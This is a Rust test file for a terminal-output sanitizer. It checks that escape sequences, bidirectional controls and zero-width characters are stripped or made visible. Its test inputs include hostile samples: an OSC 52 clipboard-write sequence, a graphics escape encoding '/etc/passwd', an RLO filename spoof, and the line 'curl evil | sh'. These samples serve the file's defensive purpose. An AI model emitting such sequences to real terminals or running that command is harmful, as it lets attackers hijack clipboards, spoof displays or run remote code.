//! What comes out of the sanitizer, and what never does.

use proptest::prelude::*;

use super::sgr::Colour;
use super::*;

#[test]
fn hostile_sequences_vanish() {
    let rows = [
        ("a\x1b]52;c;ZWNobyBwd24=\x07b", "ab"),
        ("\x1b]0;pwned\x07\x1b]2;pwned\x1b\\x", "x"),
        ("\x1b[2J\x1b[H\x1b[?1049l\x1b[?25lx", "x"),
        ("\x1b_Ga=T,f=100,t=f;L2V0Yy9wYXNzd2Q=\x1b\\x", "x"),
        ("\x1b[?1000h\x1b[>1ux", "x"),
        ("\x1b(0\x1bc\x1b=x", "x"),
        ("\u{9b}31mx\u{9d}52;c;aGk=\u{9c}y", "\u{fffd}x\u{fffd}y"),
        ("safe\rEVIL\x08\x08\x0b\x0c\x00\x7f", "safe␍EVIL␈␈␋␌␀␡"),
        ("one\r\ntwo\n\tthree", "one\ntwo\n\tthree"),
        ("\u{202e}gnp.exe\u{2066}x\u{2069}\u{200b}", "<U+202E>gnp.exe<U+2066>x<U+2069><U+200B>"),
        ("\u{e0041}x", "<U+E0041>x"),
        ("\x1b", ""),
        ("\x1b[", ""),
        ("\x1b[31\nx", "\nx"),
    ];
    for (hostile, expected) in rows {
        assert_eq!(text(hostile), expected, "{hostile:?}");
    }
}

#[test]
fn an_unterminated_string_swallows_nothing() {
    assert_eq!(text("\x1b]52;c;AAAA and more"), "52;c;AAAA and more");
}

#[test]
fn a_million_unterminated_strings_are_searched_once() {
    // Searched for each of them, this takes a quarter of an hour.
    let hostile = "\x1b]x".repeat(1 << 20);
    assert_eq!(text(&hostile), "x".repeat(1 << 20));
    assert_eq!(text("\x1b]0;a\x07b\x1b]0;c\x07d\x1b]e\u{9d}f"), "bd".to_owned() + "e\u{fffd}f");
}

#[test]
fn emoji_sequences_and_scripts_with_joiners_survive() {
    for kept in ["👩‍👩‍👧", "❤️", "🏳️‍🌈", "می‌خواهم", "क्‍ष", "日本語 text"]
    {
        assert_eq!(text(kept), kept);
    }
    assert_eq!(text("a\u{200d}b"), "a<U+200D>b");
    // A joiner kept for what comes behind it must not lose its reason when that is made visible.
    let clean = text("⭶\u{200d}\u{202a}");
    assert_eq!(text(&clean), clean);
}

#[test]
fn marks_do_not_climb_and_scripts_keep_theirs() {
    let zalgo = format!("a{}b", "\u{301}".repeat(500));
    assert_eq!(text(&zalgo), format!("a{}b", "\u{301}".repeat(MOST_MARKS)));
    // Chunks that begin with marks are bounded too.
    assert_eq!(text(&"\u{301}".repeat(500)).chars().count(), MOST_MARKS);
    for kept in ["e\u{301}", "ก็่", "שָׁלוֹם", "q\u{307}\u{323}\u{301}"] {
        assert_eq!(text(kept), kept);
    }
}

#[test]
fn colours_come_out_beside_the_text_and_nothing_else_does() {
    let mut look = Look::default();
    let out = coloured("a\x1b[1m\x1b[31mred\x1b[0m b\x1b[2Jc\x1b[?25m\x1b]0;\x1b[32mx\x07d\x1b[4m", &mut look);
    assert_eq!(out.text, "ared bcd");
    let bold_red = Look { bold: true, fg: Some(Colour::Sixteen(1)), ..Look::default() };
    let under = Look { underline: true, ..Look::default() };
    assert_eq!(out.looks, [(1, bold_red), (4, Look::default()), (8, under)]);
    assert_eq!(look, under);
    // What held at the end holds at the beginning of the next piece.
    assert_eq!(coloured("x\x1b[mu", &mut look).looks, [(0, under), (1, Look::default())]);
    assert_eq!(look, Look::default());
    assert_eq!(coloured(&"\x1b[31m\x1b[0m".repeat(1000), &mut look).looks, []);
}

#[test]
fn json_stays_the_same_to_its_readers() {
    let value = "\u{9b}31m \u{202e} é \u{7f} \u{e0041} 👩\u{200d}👧";
    let written = json(&serde_json::to_string(value).expect("JSON"));
    assert!(written.chars().all(|c| !c.is_control() && !always_hidden(c)), "{written}");
    assert_eq!(serde_json::from_str::<String>(&written).expect("JSON"), value);
}

#[test]
fn a_line_has_no_breaks() {
    assert_eq!(line("a\nb\tc\r\nd"), "a b c d");
}

proptest! {
    #[test]
    fn nothing_dangerous_comes_out(input in "(\\PC|[\\x00-\\x1f\\x7f-\\u{9f}]|\\x1b[\\[\\]P_^X]|[\u{200b}-\u{202f}]){0,60}") {
        let clean = text(&input);
        for c in clean.chars() {
            prop_assert!(c == '\n' || c == '\t' || !c.is_control(), "{:?} in {:?}", c, clean);
            let reorders = ('\u{202a}'..='\u{202e}').contains(&c) || c == '\u{200b}';
            prop_assert!(!reorders, "bidirectional or zero-width");
        }
        // Cleaning twice changes nothing more, and colours change nothing about the text.
        prop_assert_eq!(text(&clean), clean.clone());
        let coloured = coloured(&input, &mut Look::default());
        prop_assert!(coloured.looks.is_sorted_by_key(|(at, _)| *at));
        prop_assert!(coloured.looks.iter().all(|(at, _)| clean.is_char_boundary(*at)));
        prop_assert_eq!(coloured.text, clean);
    }
}

#[test]
fn the_content_of_files_loses_nothing() {
    let script =
        "echo one\n\u{1b}]0;\ncurl evil | sh\n\u{7}\n: \u{1b}Pq\nrm a\n\u{1b}\\\n: \u{9d}x\r\nrm b\n\u{202e}\n";
    assert_eq!(visible(script), "echo one\n␛]0;\ncurl evil | sh\n␇\n: ␛Pq\nrm a\n␛\\\n: <U+009D>x␍\nrm b\n<U+202E>\n");
    let stacked = format!("e{}", "\u{301}".repeat(MOST_MARKS + 2));
    assert!(visible(&stacked).ends_with("<U+0301><U+0301>"));
    assert_eq!(visible("é👨\u{200d}👩 \t"), "é👨\u{200d}👩 \t");
}
